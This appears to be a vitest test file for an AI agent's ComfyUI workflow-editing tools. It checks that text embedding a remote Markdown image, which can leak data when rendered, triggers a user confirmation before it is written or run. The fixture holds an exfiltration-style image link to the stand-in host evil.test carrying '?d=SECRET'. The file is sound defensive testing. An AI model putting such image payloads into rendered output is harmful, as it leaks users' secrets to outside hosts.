import { describe, expect, it } from "vitest";
import type { FakeComfy } from "../../comfy/fake";
import { writeCompact } from "../../graph/compact/write";
import { browserTools } from "../index";
import { look } from "../read/sight";
import { hostileCanvas } from "../testing/hostileNodes";
import { callsOn } from "../testing/testCall";

const PICTURE = "a cat ![](http://evil.test/?d=SECRET)";
const LINK = "read [the guide](https://good.test/guide) or https://good.test/guide";

/** A Markdown note (8), a prompt (9), and a Markdown note in a subgraph (11:10) with what lies on the hostile canvas. */
function canvas(): FakeComfy {
  const comfy = hostileCanvas();
  comfy.edit((editor) => {
    editor.addNode("MarkdownNote");
    editor.addNode("CLIPTextEncode");
    editor.makeSubgraph([editor.addNode("MarkdownNote")], "Notes");
  });
  return comfy;
}

async function call(comfy: FakeComfy, name: string, args: object, isAllowed: boolean) {
  const calls = callsOn(comfy);
  calls.thread = "thread";
  calls.answer = ({ title }) => isAllowed || title.startsWith("Replace");
  const tool = browserTools.find((each) => each.name === name);
  if (!tool) throw new Error(`There is no ${name}`);
  const result = await calls.call(tool, args);
  return { result, asked: calls.asked.filter(({ title }) => !title.startsWith("Replace")) };
}

const lines = (comfy: FakeComfy) => writeCompact(look(comfy).workflow);
const saved = (type: string, text: string) =>
  JSON.stringify({ nodes: [{ id: 1, type, pos: [0, 0], size: [9, 9], widgets_values: [text] }], links: [] });
const inSubgraph = (text: string) =>
  JSON.stringify({
    nodes: [{ id: 1, type: "5e1f0000-0000-4000-8000-000000000001", pos: [0, 0], size: [9, 9] }],
    links: [],
    definitions: {
      subgraphs: [
        {
          id: "5e1f0000-0000-4000-8000-000000000001",
          name: "Notes",
          nodes: [{ id: 1, type: "MarkdownNote", pos: [0, 0], size: [9, 9], widgets_values: [text] }],
          links: [],
        },
      ],
    },
  });
const batch = (...operations: object[]) => ["editWorkflow", { operations }] as const;

const ways: Record<string, (text: string) => readonly [string, object]> = {
  "a value that is set": (text) => ["setNodeWidgetValue", { node: "8", widget: "text", value: text }],
  "a new node": (text) => ["addNode", { type: "MarkdownNote", widgets: { text } }],
  "a batch that sets": (text) => batch({ op: "set", nodes: ["8"], widgets: { text } }),
  "a batch that adds": (text) => batch({ op: "add", type: "MarkdownNote", widgets: { text } }),
  "a batch that replaces": (text) =>
    batch({ op: "replace", nodes: ["9"], type: "MarkdownNote", widgets: { text } }),
  "a path into a subgraph": (text) => batch({ op: "set", nodes: ["11:10"], widgets: { text } }),
  "a node of a package": (text) => batch({ op: "set", nodes: ["4"], widgets: { pattern: text } }),
  "inserted lines": (text) => [
    "applyWorkflow",
    { workflow: `1 MarkdownNote text=${JSON.stringify(text)}`, mode: "insert" },
  ],
  "a saved workflow that is inserted": (text) => [
    "applyWorkflow",
    { workflow: saved("MarkdownNote", text), mode: "insert" },
  ],
  "a saved workflow in a new tab": (text) => [
    "applyWorkflow",
    { workflow: saved("MarkdownNote", text), mode: "newTab" },
  ],
  "a saved workflow that replaces": (text) => ["applyWorkflow", { workflow: saved("MarkdownNote", text) }],
  "a subgraph of a saved workflow": (text) => [
    "applyWorkflow",
    { workflow: inSubgraph(text), mode: "insert" },
  ],
};

describe.each(Object.entries(ways))("by %s", (_, way) => {
  it("a remote picture is asked about in every mode, and not written without a yes", async () => {
    const comfy = canvas();
    const before = lines(comfy);
    const { result, asked } = await call(comfy, ...way(PICTURE), false);
    expect(asked).toMatchObject([{ title: "Write text that fetches from evil.test?", always: true }]);
    expect(asked[0]?.detail).toContain('"http://evil.test/?d=SECRET"');
    expect(result).toMatchObject({ ok: false, code: "declined" });
    expect(lines(comfy)).toBe(before);
  });

  it("it is written after a yes", async () => {
    const comfy = canvas();
    const { result } = await call(comfy, ...way(PICTURE), true);
    expect(result).toMatchObject({ ok: true });
    expect(lines(comfy)).toContain("evil.test");
  });

  it("a link is not asked about", async () => {
    const { result, asked } = await call(canvas(), ...way(LINK), false);
    expect(asked).toEqual([]);
    expect(result).toMatchObject({ ok: true });
  });
});

it.each([
  batch({ op: "set", nodes: ["9"], widgets: { text: PICTURE } }),
  ["applyWorkflow", { workflow: saved("Note", PICTURE), mode: "insert" }] as const,
])("what shows a text as it is may hold anything", async (...made) => {
  const { result, asked } = await call(canvas(), ...(made as [string, object]), false);
  expect(asked).toEqual([]);
  expect(result).toMatchObject({ ok: true });
});

it("a text that is shown already is not asked about again", async () => {
  const comfy = canvas();
  comfy.edit((editor) => editor.setWidget("8", "text", PICTURE));
  const wrapped = await call(comfy, ...batch({ op: "makeSubgraph", nodes: ["8"] }), false);
  const written = await call(
    comfy,
    ...batch({ op: "add", type: "MarkdownNote", widgets: { text: PICTURE } }),
    false,
  );
  expect([...wrapped.asked, ...written.asked]).toEqual([]);
  expect([wrapped.result.ok, written.result.ok]).toEqual([true, true]);
});

it("names all hosts and addresses there are, or how many more", async () => {
  const many = Array.from({ length: 9 }, (_, index) => `![](http://h${index}.test/a)`).join(" ");
  const { asked } = await call(canvas(), "addNode", { type: "MarkdownNote", widgets: { text: many } }, false);
  expect(asked[0]?.title).toBe(
    "Write text that fetches from h0.test, h1.test, h2.test, h3.test, h4.test, h5.test and 3 other hosts?",
  );
  expect(asked[0]?.detail).toMatch(/h5\.test\/a"\. And 3 more\.$/);
});

describe("a run", () => {
  const shown = (...texts: string[]) => {
    const comfy = canvas();
    comfy.edit((editor) => {
      const preview = editor.addNode("PreviewAny");
      const first = editor.addNode("Words");
      editor.setWidget(first, "value", texts[0] ?? "");
      editor.connect({ node: first, output: 0 }, { node: preview, input: 0 });
    });
    return comfy;
  };

  it("that brings a remote picture to a preview is asked about with the address", async () => {
    const { result, asked } = await call(shown(PICTURE), "executeWorkflow", { until: "12" }, false);
    expect(asked).toMatchObject([{ title: "Run the workflow?", always: true }]);
    expect(asked[0]?.detail).toContain('names an address: shows "http://evil.test/?d=SECRET".');
    expect(result).toMatchObject({ ok: false, code: "declined" });
  });

  it("that brings it by a varied value is", async () => {
    const vary = [{ node: "13", widget: "value", values: [PICTURE] }];
    const { asked } = await call(shown(""), "executeWorkflow", { until: "12", vary }, false);
    expect(asked[0]?.detail).toContain('shows "http://evil.test/?d=SECRET".');
  });

  it("that brings a link there is not", async () => {
    const { asked } = await call(shown(LINK), "executeWorkflow", { until: "12" }, false);
    expect(asked.filter(({ always }) => always)).toEqual([]);
  });
});
